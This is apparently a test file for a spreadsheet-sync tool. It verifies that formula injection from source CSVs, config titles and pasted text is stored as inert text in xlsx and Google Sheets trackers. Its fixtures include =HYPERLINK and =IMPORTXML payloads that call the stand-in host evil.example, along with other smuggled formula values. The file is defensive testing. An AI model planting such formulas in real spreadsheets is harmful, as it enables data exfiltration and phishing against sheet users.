"""Formula injection, end to end: a `=HYPERLINK(...)` typed into a source sheet and an
`=IMPORTXML(...)` in the config reach the tracker as inert text, in .xlsx and in Google Sheets.
"""

from __future__ import annotations

import zipfile
from pathlib import Path

from openpyxl import load_workbook

from tests.fake_google import fixtures
from tests.helpers import copy_example, run_cli

fake_google = fixtures.fake_google
service_account_file = fixtures.service_account_file
HYPERLINK = '=HYPERLINK("http://evil.example/steal","click me")'
IMPORTXML = '=IMPORTXML("http://evil.example/?q=1","//a")'


def poisoned_project(folder: Path) -> Path:
    """The example with a formula in a source cell (it becomes a warning the tracker shows)
    and one as an objective title (straight from config)."""
    config = copy_example(folder)
    support = folder / "data" / "support.csv"
    lines = support.read_text().splitlines()
    index = max(i for i, line in enumerate(lines) if ",chat," in line)
    fields = lines[index].split(",")
    fields[3] = '"' + HYPERLINK.replace('"', '""') + '"'
    lines[index] = ",".join(fields)
    support.write_text("\n".join(lines) + "\n")
    config.write_text(config.read_text().replace('title = "Enhance customer experience"', f"title = '{IMPORTXML}'"))
    return config


def test_xlsx_tracker_keeps_formulas_from_sheets_and_config_as_text(tmp_path):
    poisoned_project(tmp_path)
    proc = run_cli("sync", "--as-of", "2026-11-24", cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert "is not a number (skipped)" in proc.stderr
    path = tmp_path / "output" / "okr_tracker.xlsx"
    book = load_workbook(path)
    texts = {}
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and "evil.example" in cell.value:
                    texts[f"{ws.title}!{cell.coordinate}"] = cell
    tabs = {name.split("!")[0] for name in texts}
    assert {"Sources", "Dashboard"} <= tabs, tabs  # the cell's warning and the title both reached it
    for where, cell in texts.items():
        assert cell.data_type == "s", where
    with zipfile.ZipFile(path) as archive:
        for member in archive.namelist():
            if member.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(member) and b"<f " not in archive.read(member), member


def test_google_sheet_tracker_keeps_them_as_text(tmp_path, fake_google, service_account_file):
    key = fake_google.add_spreadsheet("OKR tracker", {"Sheet1": [[""]]})
    config = poisoned_project(tmp_path)
    text = config.read_text().replace(
        '[tracker]\ntype = "xlsx"\npath = "output/okr_tracker.xlsx"',
        f'[tracker]\ntype = "gsheet"\nspreadsheet = "{key}"\n\n[google]\ncredentials = "{service_account_file}"\n'
        f'api_url = "{fake_google.url}"',
    )
    config.write_text(text)
    proc = run_cli("sync", "--as-of", "2026-11-24", cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    (write,) = fake_google.calls_of("values.batchUpdate")
    assert write.method == "POST"
    sheet = fake_google.spreadsheet(key)
    reached = set()
    for tab in sheet.sheet_titles:
        for (r, c), cell in sheet.sheet(tab).cells.items():
            assert cell.formula is None, f"{tab} row {r} col {c} became a formula"
            if isinstance(cell.value, str) and "evil.example" in cell.value:
                reached.add(tab)
    assert {"Sources", "Dashboard"} <= reached, reached  # stored, as text


def test_text_that_a_paste_would_turn_into_a_formula_gets_the_same_guard(tmp_path):
    """A leading tab or CR (dropped by some pastes) and a full-width ＝ (folded by some IMEs)."""
    from openpyxl import Workbook

    from connectors.xlsx_tracker import put
    from sheetsync.core.tracker import Cell

    sheet = Workbook().active
    pasted = ["\t=HYPERLINK(\"http://evil.example\")", "\r=1+1", "＝1+1", "＋cmd", "－1", "＠SUM(A1)"]
    for row, text in enumerate(pasted, 1):
        put(sheet.cell(row, 1), Cell(text))
        cell = sheet.cell(row, 1)
        assert cell.data_type == "s" and cell.quotePrefix, repr(text)
    put(sheet.cell(9, 1), Cell("plain text"))
    assert not sheet.cell(9, 1).quotePrefix
